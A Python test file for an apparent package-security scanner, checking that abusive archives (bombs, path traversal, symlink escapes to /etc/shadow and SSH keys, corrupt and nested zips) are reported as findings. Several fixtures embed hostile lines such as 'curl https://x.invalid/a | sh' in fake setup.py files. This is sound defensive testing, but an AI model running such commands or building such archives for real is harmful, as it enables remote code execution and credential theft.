"""Archive abuse is a finding, never a crash: bombs, lying or corrupt archives, traversal,
links, devices, duplicates, overlaps, nesting, member counts and huge members."""

from __future__ import annotations

import io
import random
import stat
import struct
import tarfile
import zipfile

import pytest

from stockade.core.threats import ScanLimits, scan_bytes
from tests.unit.threats.builders import sdist, tar_bytes, wheel, zip_bytes

SMALL = ScanLimits(bomb_floor=1 << 20, max_ratio=50.0)


def rules(data: bytes, name: str = "x.tar.gz", limits: ScanLimits | None = None) -> dict[str, str]:
    rep = scan_bytes(data, name, limits or ScanLimits())
    return {f.rule: f.severity for f in rep.findings}


def test_zip_bomb_member() -> None:
    data = zip_bytes([("demo/zeros.bin", b"\x00" * (4 << 20)), ("demo/__init__.py", "")])
    assert rules(data, "demo-1.0-py3-none-any.whl", SMALL).get("archive-bomb") == "high"


def test_gzip_stream_bomb() -> None:
    data = tar_bytes([("demo-1.0/zeros.txt", b"0" * (4 << 20))])
    rep = scan_bytes(data, "demo-1.0.tar.gz", SMALL)
    assert "archive-bomb" in {f.rule for f in rep.findings}
    assert rep.verdict == "suspicious"


def test_total_budget_stops_reading() -> None:
    data = tar_bytes([(f"d/f{i}.txt", bytes(range(256)) * 4096) for i in range(4)])
    found = rules(data, limits=ScanLimits(max_total_bytes=2 << 20))
    assert "scan-incomplete" in found


def test_huge_member_is_truncated_not_skipped() -> None:
    src = "import os\n" + "# filler\n" * 5000 + "os.system('curl https://x.invalid/a | sh')\n"
    found = rules(sdist({"setup.py": src}), limits=ScanLimits(max_member_bytes=4096))
    assert "scan-incomplete" in found


@pytest.mark.parametrize("bad", ["../evil.py", "demo/../../evil.py", "..\\evil.py"])
def test_zip_path_traversal(bad: str) -> None:
    data = zip_bytes([(bad, "x = 1\n"), ("demo/__init__.py", "")])
    assert rules(data, "demo-1.0-py3-none-any.whl").get("archive-path-traversal") == "critical"


@pytest.mark.parametrize("bad", ["/etc/cron.d/x", "C:/Windows/x.py"])
def test_absolute_paths(bad: str) -> None:
    data = zip_bytes([(bad, "x = 1\n")])
    assert rules(data, "demo.zip").get("archive-absolute-path") == "critical"


def test_tar_traversal_and_absolute() -> None:
    data = tar_bytes([("demo-1.0/../../evil.py", b"x=1\n"), ("/tmp/abs.py", b"x=1\n")])
    found = rules(data)
    assert found.get("archive-path-traversal") == "critical"
    assert found.get("archive-absolute-path") == "critical"


def test_tar_symlink_escape_and_inner_link() -> None:
    out = tarfile.TarInfo("demo-1.0/passwd")
    out.type = tarfile.SYMTYPE
    out.linkname = "../../../etc/passwd"
    inner = tarfile.TarInfo("demo-1.0/LICENSE.txt")
    inner.type = tarfile.SYMTYPE
    inner.linkname = "LICENSE"  # an ordinary link inside the archive is fine
    found = rules(tar_bytes([("demo-1.0/LICENSE", b"MIT\n"), out, inner]))
    assert found.get("archive-link-escape") == "high"
    hard = tarfile.TarInfo("demo-1.0/h")
    hard.type = tarfile.LNKTYPE
    hard.linkname = "/etc/shadow"
    assert "archive-link-escape" in rules(tar_bytes([hard]))
    assert "archive-link-escape" not in rules(tar_bytes([("demo-1.0/LICENSE", b"MIT\n"), inner]))


def test_zip_symlink_escape() -> None:
    info = zipfile.ZipInfo("demo/link")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    data = zip_bytes([(info, "../../../../home/user/.ssh/id_rsa")])
    assert rules(data, "demo.zip").get("archive-link-escape") == "high"


def test_device_file() -> None:
    dev = tarfile.TarInfo("demo-1.0/dev")
    dev.type = tarfile.CHRTYPE
    dev.devmajor, dev.devminor = 1, 3
    assert rules(tar_bytes([dev])).get("archive-special-file") == "high"


def test_duplicate_members() -> None:
    data = zip_bytes([("demo/__init__.py", "x = 1\n"), ("demo/__init__.py", "x = 2\n")])
    assert rules(data, "demo-1.0-py3-none-any.whl").get("archive-duplicate-member") == "high"


def _central_entries(data: bytes) -> list[int]:
    """Offsets of the central directory headers."""
    out, pos = [], 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            return out
        out.append(pos)
        pos += 4


def test_overlapping_entries() -> None:
    data = bytearray(zip_bytes([("a.txt", "A" * 200), ("b.txt", "B" * 200)]))
    first, second = _central_entries(bytes(data))
    off_first = struct.unpack_from("<I", data, first + 42)[0]
    struct.pack_into("<I", data, second + 42, off_first + 10)  # b's data inside a's
    found = rules(bytes(data), "demo.zip")
    assert "archive-overlap" in found or "archive-corrupt" in found


def test_encrypted_member() -> None:
    data = bytearray(zip_bytes([("demo/secret.py", "x = 1\n")]))
    (cd,) = _central_entries(bytes(data))
    struct.pack_into("<H", data, cd + 8, struct.unpack_from("<H", data, cd + 8)[0] | 1)
    struct.pack_into("<H", data, 6, struct.unpack_from("<H", data, 6)[0] | 1)
    assert rules(bytes(data), "demo.zip").get("archive-encrypted") == "medium"


def test_lying_crc_is_corrupt() -> None:
    data = bytearray(zip_bytes([("demo/x.py", "x = 1\n" * 50)]))
    (cd,) = _central_entries(bytes(data))
    struct.pack_into("<I", data, cd + 16, 0xDEADBEEF)  # CRC in the central directory
    struct.pack_into("<I", data, 14, 0xDEADBEEF)  # and in the local header
    assert rules(bytes(data), "demo.zip").get("archive-corrupt") == "medium"


@pytest.mark.parametrize(
    "blob",
    [
        b"PK\x03\x04" + b"\x00" * 40,
        b"\x1f\x8b\x08\x00" + b"garbage" * 20,
        b"BZh9" + b"\x00" * 50,
        b"\xfd7zXZ\x00" + b"\x01" * 50,
        b"",
    ],
    ids=["zip-header-only", "gzip-garbage", "bz2-garbage", "xz-garbage", "empty"],
)
def test_corrupt_archives_never_raise(blob: bytes) -> None:
    rep = scan_bytes(blob, "broken.tar.gz")
    assert rep.verdict in ("clean", "suspicious")


def test_truncated_sdist() -> None:
    data = sdist({"setup.py": "from setuptools import setup\nsetup()\n" * 200})
    rep = scan_bytes(data[: len(data) // 2], "demo-1.0.tar.gz")
    assert "archive-corrupt" in {f.rule for f in rep.findings}


def test_too_many_members() -> None:
    data = zip_bytes([(f"demo/m{i}.py", "") for i in range(20)])
    found = rules(data, "demo.zip", ScanLimits(max_members=5))
    assert found.get("archive-too-many-members") == "medium"


def test_nesting_limit() -> None:
    level3 = zip_bytes([("deep.py", "x = 1\n")])
    level2 = zip_bytes([("l3.zip", level3)])
    level1 = zip_bytes([("l2.zip", level2)])
    found = rules(level1, "demo.zip", ScanLimits(max_depth=1))
    assert "archive-nesting" in found


def test_mutated_archives_never_raise_and_are_deterministic() -> None:
    base = [
        sdist({"setup.py": "import os\nos.system('echo hi')\n", "demo/__init__.py": "x=1\n"}),
        wheel({"demo/__init__.py": "import base64\nprint(base64.b64decode('aGk='))\n"}),
    ]
    rnd = random.Random(1234)
    for _ in range(120):
        data = bytearray(rnd.choice(base))
        for _ in range(rnd.randint(1, 8)):
            data[rnd.randrange(len(data))] = rnd.randrange(256)
        if rnd.random() < 0.3:
            data = data[: rnd.randrange(1, len(data))]
        one = scan_bytes(bytes(data), "fuzz.tar.gz")
        two = scan_bytes(bytes(data), "fuzz.tar.gz")
        assert one.verdict == two.verdict
        assert one.findings == two.findings


def test_plain_tar_and_gzip_single_file() -> None:
    import gzip

    tar = tar_bytes([("demo-1.0/setup.py", b"import os\nos.system('wget https://x.invalid/a')\n")])
    with tarfile.open(fileobj=io.BytesIO(tar)) as tf:
        assert tf.getnames()
    found_gz = rules(gzip.compress(b"import os\nos.system('curl https://x.invalid/a | sh')\n"))
    assert isinstance(found_gz, dict)
